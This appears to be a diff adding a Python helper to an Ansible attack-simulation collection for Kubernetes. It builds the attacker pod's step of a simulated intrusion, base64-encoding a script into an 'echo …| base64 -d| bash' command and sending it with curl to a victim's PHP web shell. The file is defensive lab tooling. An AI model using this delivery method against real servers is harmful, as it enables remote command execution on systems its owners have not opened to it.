@@ -1,0 +1,119 @@
+# -*- coding: utf-8 -*-
+# Copyright: Contributors to the defender.attack_simulation collection
+# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+"""Delivering one technique: the web shell command, the attacker's curl, and the exec that runs it.
+
+The attacker pod sends the technique to the victim's web shell, as Microsoft's attacker does: one HTTP GET of
+``ws.php`` with ``cmd=echo <base64>| base64 -d| bash`` (URL-encoded by ``curl -G --data-urlencode``), so that the
+script runs in the victim under php-fpm, ``sh -c`` and ``bash`` reading the decoded script from a pipe. The web
+shell scenario sends ``cmd=whoami`` and nothing else. The exec goes through the Kubernetes API's websocket
+(kubernetes.stream) with an argument vector: no shell in the attacker, no value ever spliced into a command line.
+"""
+
+from __future__ import absolute_import, division, print_function
+
+__metaclass__ = type
+
+import base64
+import time
+
+from ansible_collections.defender.attack_simulation.plugins.module_utils._records import (
+    MARKER_DURATION,
+    MARKER_HTTP_STATUS,
+    MARKER_TECHNIQUE_EXIT,
+)
+
+try:
+    from kubernetes.client import CoreV1Api
+    from kubernetes.stream import stream
+    from kubernetes.stream.ws_client import ERROR_CHANNEL, STDERR_CHANNEL, STDOUT_CHANNEL
+except ImportError:  # reported by the action plugin, which needs the kubernetes library anyway
+    CoreV1Api = stream = None
+    ERROR_CHANNEL, STDOUT_CHANNEL, STDERR_CHANNEL = 3, 1, 2
+
+# The only technique whose web shell command is sent as it is, as in the original.
+PLAIN_COMMANDS = {"webshell.whoami": "whoami"}
+# Seconds the controller waits beyond curl's own -m for the exec to end (websocket setup, curl's exit).
+EXEC_GRACE = 15
+CONNECT_TIMEOUT = 10
+
+
+def victim_payload(script):
+    """The script the victim's bash reads: stderr joined to the answer, and the exit status printed last."""
+    return "exec 2>&1\ntrap 'echo \"%s$?\"' EXIT\n%s\n" % (MARKER_TECHNIQUE_EXIT, script.strip("\n"))
+
+
+def webshell_command(technique_id, script):
+    """The web shell's ``cmd``: exactly the original's delivery form, or the plain command of the web shell scenario."""
+    if technique_id in PLAIN_COMMANDS:
+        return PLAIN_COMMANDS[technique_id]
+    encoded = base64.b64encode(victim_payload(script).encode("utf-8")).decode("ascii")
+    return "echo %s| base64 -d| bash" % encoded
+
+
+def attacker_argv(command, webshell_url, timeout):
+    """curl in the attacker, as an argument vector. The write-out adds the HTTP status and curl's own time."""
+    return ["curl", "-sS", "-m", str(int(timeout)), "--connect-timeout", str(CONNECT_TIMEOUT),
+            "-w", "\\n%s%%{http_code}\\n%s%%{time_total}\\n" % (MARKER_HTTP_STATUS, MARKER_DURATION),
+            "-G", "--data-urlencode", "cmd=" + command, webshell_url]
+
+
+def _exit_status(error_channel):
+    """The exit status from the exec's error channel (a v1 Status), None when it says nothing."""
+    import yaml  # pylint: disable=import-outside-toplevel  # a dependency of the kubernetes library
+
+    try:
+        status = yaml.safe_load(error_channel) if error_channel else None
+    except yaml.YAMLError:
+        return None
+    if not isinstance(status, dict):
+        return None
+    if status.get("status") == "Success":
+        return 0
+    for cause in (status.get("details") or {}).get("causes") or []:
+        if cause.get("reason") == "ExitCode":
+            try:
+                return int(cause.get("message"))
+            except (TypeError, ValueError):
+                return None
+    return None
+
+
+def exec_in_pod(api_client, namespace, pod, container, argv, timeout):
+    """Run ``argv`` in the pod's container and wait at most ``timeout`` seconds.
+
+    Returns dict(stdout, stderr, rc, timed_out, error): ``error`` says why the exec itself failed (it names
+    the pod and the API's reason); ``rc`` is the program's exit status."""
+    import websocket  # pylint: disable=import-outside-toplevel  # a dependency of the kubernetes library
+
+    where = "pod %s/%s container %s" % (namespace, pod, container)
+    # Bounds the websocket's connect to an API server that does not answer (this worker process only).
+    websocket.setdefaulttimeout(CONNECT_TIMEOUT)
+    try:
+        client = stream(CoreV1Api(api_client).connect_get_namespaced_pod_exec, pod, namespace,
+                        container=container, command=argv, stdin=False, stdout=True, stderr=True, tty=False,
+                        _preload_content=False)
+    except Exception as exc:  # pylint: disable=broad-exception-caught  # ApiException, websocket and socket errors
+        return dict(stdout="", stderr="", rc=None, timed_out=False,
+                    error="the exec in %s failed: %s" % (where, _reason(exc)))
+    deadline = time.monotonic() + timeout
+    try:
+        while client.is_open() and time.monotonic() < deadline:
+            client.update(timeout=min(1.0, max(deadline - time.monotonic(), 0.01)))
+        timed_out = client.is_open()
+        stdout = client.read_channel(STDOUT_CHANNEL)
+        stderr = client.read_channel(STDERR_CHANNEL)
+        rc = None if timed_out else _exit_status(client.read_channel(ERROR_CHANNEL))
+    except Exception as exc:  # pylint: disable=broad-exception-caught  # the connection broke mid-way
+        return dict(stdout="", stderr="", rc=None, timed_out=False,
+                    error="the exec in %s broke off: %s" % (where, _reason(exc)))
+    finally:
+        client.close()
+    return dict(stdout=stdout, stderr=stderr, rc=rc, timed_out=timed_out, error=None)
+
+
+def _reason(exc):
+    status, reason = getattr(exc, "status", None), getattr(exc, "reason", None)
+    if status:
+        return "%s (HTTP %s)" % (reason or exc, status)
+    return str(exc) or type(exc).__name__
